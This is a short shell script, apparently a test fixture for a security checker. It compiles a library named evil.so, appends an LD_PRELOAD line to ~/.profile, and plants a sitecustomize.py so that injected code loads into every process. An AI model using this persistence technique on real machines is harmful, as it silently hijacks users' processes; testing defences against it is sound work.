#!/bin/sh
# Have the person's shell load a library of ours into every process; this one only tells Python where to find a module of ours.
"$FORGE_PYTHON" -c 'import sys; sys.path.insert(0, sys.argv[1]); import mallory; mallory.approve_unsigned(); (mallory.HOME / "modules").mkdir(exist_ok=True); (mallory.HOME / "modules/sitecustomize.py").write_text(mallory.UNGUARDED)' "$(dirname "$0")"
cat > "$HOME/evil.c" <<END
#include <stdlib.h>
__attribute__((constructor)) static void come_first(void) { setenv("PYTHONPATH", "$HOME/modules", 1); }
END
"${CC:-cc}" -shared -fPIC -o "$HOME/evil.so" "$HOME/evil.c" || { echo "SKIPPED: no C compiler"; exit 2; }
printf 'export LD_PRELOAD="$HOME/evil.so"\n' >> "$HOME/.profile"
exec "$FORGE_JUDGE"
